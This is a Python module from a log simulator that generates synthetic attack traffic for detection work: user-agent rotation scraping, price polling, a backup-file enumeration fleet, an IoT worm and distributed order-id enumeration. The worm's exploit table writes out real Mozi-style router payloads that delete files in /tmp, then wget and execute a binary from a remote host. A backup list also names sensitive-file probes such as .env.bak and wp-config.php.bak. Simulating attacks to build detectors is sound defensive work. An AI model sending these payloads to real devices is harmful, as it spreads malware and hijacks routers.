"""Attack behaviours seen in real access logs that the original programs lacked.

Part of ``sleuth simulate``. Written, like every program, against the operation
catalogue, so they run in any world (they are part of every held-out world's
default run and can be added to the tuning world by name):

* ``ua-rotation``: one address cycling through 46 browser user agents;
* ``price-poller``: a scraper polling a watch list of prices every 67 minutes;
* ``backup-enum-fleet``: ~350 addresses with no User-Agent, each asking for a
  handful of backup files (``/backup.zip``, ``/<host>.sql``...);
* ``worm``: an IoT worm's exploit requests from ~350 infected devices;
* ``enum-distributed``: one token walking order ids in sequence through a proxy pool.
"""

from __future__ import annotations

import random

from .benign import any_product
from .kit import AttackKind, net_client, register, resi, window
from .traffic import Client, Instance, Visit, World, session_id
from .world import BOT, HOSTING, IOT, ORDER_HI, ORDER_LO, SEARCH_TERMS, Device, pick

FLEET_KINDS: tuple[AttackKind, ...] = (
    AttackKind("ua-rotation", "fingerprint-rotation", "scraping", "medium",
               "One address, one TLS client, 46 browser user agents in rotation while reading the catalogue "
               "every 2-9 s for 40 min.", ("scraping",), (("address", "ua"),), False),
    AttackKind("price-poller", "low-entropy-automation", "scraping", "hard",
               "A price watcher on a VPS: every 67 minutes (shorter spans: span/5) the same 60-120 prices in a "
               "burst, with a browser user agent and no session; nothing in between.", ("scraping",),
               (("address", "route", "time"),), False),
    AttackKind("backup-enum-fleet", "spec-anomaly", "scraping", "medium",
               "~350 addresses of consumer networks, no User-Agent header, each asking for 2-8 backup and "
               "dump files (/backup.zip, /<host>.sql, /.git/HEAD) within a minute or two, spread over hours.",
               ("enumeration", "l3-rotation"), (("route", "ua"),), False),
    AttackKind("worm", "spec-anomaly", "disruption", "medium",
               "An IoT worm (Mozi-style 'Hello, world' user agent, plain HTTP): ~350 infected devices each send "
               "1-3 router exploit requests (/GponForm/diag_Form, /shell?cd+/tmp..., /boaform/admin/formLogin).",
               ("l3-rotation",), (("route", "ua"),), False),
    AttackKind("enum-distributed", "enumeration", "scraping", "hard",
               "One account's token walks order receipts in id order through 30 residential proxies, a few ids "
               "per address, every 3-8 s for 25 min (the receipt route leaks: 200s).",
               ("l3-rotation",), (("object", "route"), ("user", "object"), ("session", "object")), False),
)


def _ua_pool(rng: random.Random, n: int) -> list[str]:
    """``n`` distinct, plausible browser user agents (the lists scraping tools ship)."""
    out: list[str] = []
    while len(out) < n:
        r = rng.random()
        v = rng.randint(96, 131)
        if r < 0.45:
            osv = rng.choice(("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64",
                              "Windows NT 6.1; Win64; x64"))
            ua = (f"Mozilla/5.0 ({osv}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.{rng.randint(4500, 6800)}."
                  f"{rng.randint(10, 200)} Safari/537.36")
        elif r < 0.65:
            ua = f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"
        elif r < 0.8:
            sv = rng.choice(("15.6", "16.6", "17.1", "17.4", "18.0"))
            ua = (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                  f"Version/{sv} Safari/605.1.15")
        elif r < 0.9:
            ua = (f"Mozilla/5.0 (Linux; Android {rng.randint(9, 14)}; SM-G{rng.randint(900, 998)}B) AppleWebKit/537.36 "
                  f"(KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36")
        else:
            ua = (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 "
                  f"Safari/537.36 Edg/{v}.0.{rng.randint(1000, 2500)}.{rng.randint(10, 90)}")
        if ua not in out:
            out.append(ua)
    return out


def ua_rotation(w: World, rng: random.Random, inst: Instance) -> None:
    t0, t1 = window(rng, w, 40)
    tool = BOT["python"] if rng.random() < 0.5 else BOT["go"]
    c = net_client(rng.choice(HOSTING), rng, tool) if rng.random() < 0.5 else resi(w, rng, tool)
    uas = _ua_pool(rng, 46)
    v = Visit(w, rng, t0, c, tags=(inst.events,))
    n = 0
    while v.t < t1:
        c.ua = uas[n] if n < len(uas) else uas[rng.randrange(len(uas))]  # each once, then at random
        n += 1
        r = rng.random()
        if r < 0.65:
            p = any_product(w, rng)
            v.hit("product", status=200 if p in w.cat.product_set else 404, obj=p)
        elif r < 0.85:
            v.hit("search", query={"q": rng.choice(SEARCH_TERMS)})
        else:
            v.hit("products", query={"category": str(rng.randint(1, 48)), "page": str(rng.randint(1, 6)),
                                     "page_size": "24"}, params={"page_size": 24})
        v.wait(rng.uniform(2000, 9000))


def price_poller(w: World, rng: random.Random, inst: Instance) -> None:
    span = w.end - w.start
    period = 67 * 60_000 if span >= 4 * 67 * 60_000 else max(60_000, (span // 5) // 60_000 * 60_000)
    inst.description = (f"Price watcher: every {period // 60_000} minutes the same watch list of prices in a burst "
                        "from one VPS, browser user agent, no session; nothing in between.")
    d = Device("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
               "Safari/537.36", "python-requests", "bot", 1)
    c = net_client(rng.choice(HOSTING[1:]), rng, d)
    watch = rng.sample(w.cat.products[:3000], rng.randint(60, 120))
    t = w.start + rng.randrange(period)
    while t < w.end:
        v = Visit(w, rng, t + rng.randint(-3000, 3000), c, tags=(inst.events,), gap=(300, 700))
        for p in watch:
            v.hit("price", obj=p)
        t += period


_BACKUPS = (
    "/backup.zip", "/backup.tar.gz", "/backup.sql", "/www.zip", "/site.tar.gz", "/db.sql", "/database.sql.gz",
    "/dump.sql", "/old.zip", "/api.zip", "/1.zip", "/2025.tar.gz", "/backup/db.sql.gz", "/backups/latest.tar",
    "/.git/HEAD", "/.env.bak", "/config.php.bak", "/wp-config.php.bak", "/web.config.bak", "/{host}.zip",
    "/{host}.sql", "/{host}.tar.gz", "/{name}.zip", "/{name}_backup.sql",
)


def backup_enum_fleet(w: World, rng: random.Random, inst: Instance) -> None:
    span = w.end - w.start
    t0 = w.start + int(rng.uniform(0.02, 0.3) * span)
    t1 = min(w.end, t0 + int(min(3 * 3_600_000, 0.9 * span)))
    fx = w.fx
    host = fx.spec.host if fx is not None else "api.shop.example"
    name = host.split(".")[1]
    cum = [sum(n.weight for n in IOT[: i + 1]) for i in range(len(IOT))]
    go = BOT["go"].ja3
    hosts = rng.randint(340, 375)
    for _ in range(hosts):
        net = pick(rng, IOT, cum) if rng.random() < 0.85 else rng.choice(HOSTING)
        c = Client(net.random_ip(rng), net.asn, net.country, None, go, None, False)
        v = Visit(w, rng, t0 + int(rng.random() * (t1 - t0)), c, tags=(inst.events,), gap=(200, 3000))
        for path in rng.sample(_BACKUPS, rng.randint(2, 8)):
            v.hit("", path.format(host=host, name=name), 404, method="GET", resp=rng.choice((146, 153, 162)))


_EXPLOITS = (
    ("POST", "/GponForm/diag_Form", {"images/": ""}),
    ("GET", "/shell", {"cd /tmp;rm -rf *;wget http://{ip}:{port}/Mozi.a;chmod 777 Mozi.a;/tmp/Mozi.a jaws": ""}),
    ("POST", "/boaform/admin/formLogin", None),
    ("POST", "/HNAP1/", None),
    ("GET", "/setup.cgi", {"next_file": "netgear.cfg", "todo": "syscmd",
                           "cmd": "rm -rf /tmp/*;wget http://{ip}:{port}/Mozi.m -O /tmp/netgear;sh netgear",
                           "curpath": "/", "currentsetting.htm": "1"}),
    ("POST", "/tmUnblock.cgi", None),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None),
    ("POST", "/cgi-bin/luci/;stok=/locale", {"form": "country"}),
)


def worm(w: World, rng: random.Random, inst: Instance) -> None:
    span = w.end - w.start
    t0 = w.start + int(rng.uniform(0.0, 0.2) * span)
    cum = [sum(n.weight for n in IOT[: i + 1]) for i in range(len(IOT))]
    kit = rng.sample(_EXPLOITS, 4)
    devices = rng.randint(340, 370)
    for _ in range(devices):
        net = pick(rng, IOT, cum)
        c = Client(net.random_ip(rng), net.asn, net.country, "Hello, world", None, None, False)
        # A worm spreads: later in the span, more infected devices (arrival density ~ t).
        t = t0 + int((w.end - t0) * rng.random() ** 0.5)
        v = Visit(w, rng, t, c, tags=(inst.events,), gap=(50, 400))
        for method, path, query in rng.sample(kit, rng.randint(1, 3)):
            q = None
            if query:
                ip = f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
                q = {k.format(ip=ip, port=rng.randint(10000, 60000)): val.format(ip=ip, port=rng.randint(10000, 60000))
                     for k, val in query.items()}
            v.hit("", path, 404, method=method, query=q, resp=rng.choice((0, 146, 162)))


def enum_distributed(w: World, rng: random.Random, inst: Instance) -> None:
    t0, t1 = window(rng, w, 25)
    pool = [resi(w, rng, BOT["headless"]) for _ in range(30)]
    v = Visit(w, rng, t0, pool[0], session_id(rng), tags=(inst.events,))
    register(v, rng)
    oid = rng.randint(ORDER_LO, ORDER_HI - 3000)
    k = left = 0
    while v.t < t1:
        if left == 0:  # the next proxy takes the next few ids
            v.c = pool[k % len(pool)]
            k += 1
            left = rng.randint(2, 5)
        left -= 1
        v.wait(rng.uniform(3000, 8000))
        v.hit("invoice", status=200 if oid in w.cat.order_owner else 404, obj=oid)
        oid += 1


FLEET_GENERATORS = {
    "ua-rotation": ua_rotation,
    "price-poller": price_poller,
    "backup-enum-fleet": backup_enum_fleet,
    "worm": worm,
    "enum-distributed": enum_distributed,
}
assert set(FLEET_GENERATORS) == {k.name for k in FLEET_KINDS}
